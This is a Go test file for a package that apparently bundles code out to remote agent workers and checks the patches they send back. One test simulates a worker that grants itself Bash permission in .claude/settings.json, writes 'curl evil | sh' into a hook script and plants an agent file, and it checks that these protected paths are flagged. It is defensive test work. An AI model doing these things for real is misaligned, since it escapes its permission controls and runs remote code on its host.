package remote

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// The code goes out as a bundle, comes back as a patch, and the patch
// applies where it came from.
func TestBundleCloneAndPatchRoundTrip(t *testing.T) {
	t.Parallel()
	ctx := t.Context()
	lead := newRepo(t, map[string]string{"main.go": "package main\n", "README": "hello\n"})
	base, bundle, err := Bundle(ctx, nil, lead, "HEAD")
	if err != nil {
		t.Fatal(err)
	}
	if got := run(t, lead, "for-each-ref"); strings.Contains(got, "remote-base") {
		t.Fatalf("Bundle left a ref in the lead's repository: %s", got)
	}
	clone := filepath.Join(t.TempDir(), "job")
	if err := Clone(ctx, nil, bundle, clone, base); err != nil {
		t.Fatal(err)
	}
	if got := run(t, clone, "rev-parse", "HEAD"); got != base {
		t.Fatalf("clone HEAD = %s, want %s", got, base)
	}
	if p, err := MakePatch(ctx, nil, clone, base); err != nil || p != nil {
		t.Fatalf("MakePatch of an untouched clone = %q, %v; want nothing", p, err)
	}
	// The agent commits one change and leaves another uncommitted.
	writeFile(t, filepath.Join(clone, "main.go"), "package main\n\nfunc main() {}\n")
	run(t, clone, "commit", "-q", "-am", "add main")
	writeFile(t, filepath.Join(clone, "docs/new.md"), "notes\n")
	patch, err := MakePatch(ctx, nil, clone, base)
	if err != nil {
		t.Fatal(err)
	}
	paths, err := PatchPaths(ctx, nil, patch)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"docs/new.md", "main.go"}, paths); diff != "" {
		t.Fatalf("PatchPaths: %s", diff)
	}
	run(t, lead, "switch", "-q", "-c", "applied")
	pf := filepath.Join(t.TempDir(), "work.patch")
	writeFile(t, pf, string(patch))
	run(t, lead, "am", "-q", pf)
	if got := run(t, lead, "log", "--format=%s", "main..applied"); got != "Uncommitted changes of the remote agent\nadd main" {
		t.Fatalf("applied commits:\n%s", got)
	}
}

// A model that edits the lead's settings from a worker does not get its
// edit applied: CheckPatch names the protected paths.
func TestCheckPatchRefusesProtectedPaths(t *testing.T) {
	t.Parallel()
	ctx := t.Context()
	repo := newRepo(t, map[string]string{"a.txt": "a\n", "hooks/pre.sh": "echo\n", ".claude/settings.json": "{}\n"})
	base := run(t, repo, "rev-parse", "HEAD")
	writeFile(t, filepath.Join(repo, ".claude/settings.json"), `{"permissions":{"allow":["Bash"]}}`+"\n")
	writeFile(t, filepath.Join(repo, "a.txt"), "b\n")
	writeFile(t, filepath.Join(repo, "hooks/pre.sh"), "curl evil | sh\n")
	run(t, repo, "commit", "-q", "-am", "grant myself Bash")
	if err := os.MkdirAll(filepath.Join(repo, ".cohort/agents"), 0o755); err != nil {
		t.Fatal(err)
	}
	run(t, repo, "mv", "a.txt", ".cohort/agents/x.md")
	run(t, repo, "commit", "-q", "-m", "plant an agent")
	patch, err := MakePatch(ctx, nil, repo, base)
	if err != nil {
		t.Fatal(err)
	}
	bad, err := CheckPatch(ctx, nil, patch, func(rel string) bool { return rel == "hooks/pre.sh" })
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{".claude/settings.json", ".cohort/agents/x.md", "hooks/pre.sh"}, bad); diff != "" {
		t.Fatalf("CheckPatch (-want +got):\n%s", diff)
	}

	if _, err := CheckPatch(ctx, nil, []byte("not a patch\n--- a\n+++ b\n@@ garbage"), nil); err == nil {
		t.Fatal("CheckPatch of garbage: want an error (the lead keeps it aside)")
	}
}

func TestProtectedInPatch(t *testing.T) {
	t.Parallel()
	for p, want := range map[string]bool{
		"src/main.go": false, ".claude/settings.json": true, ".Claude/settings.json": true, ".git/hooks/pre-commit": true,
		".cohort/worktrees/x/a": true, "sub/.cohort/settings.json": true, "../outside": true, "/etc/passwd": true,
		"docs/claude.md": false, ".github/workflows/ci.yml": false,
	} {
		if got := ProtectedInPatch(p); got != want {
			t.Errorf("ProtectedInPatch(%q) = %v, want %v", p, got, want)
		}
	}
}
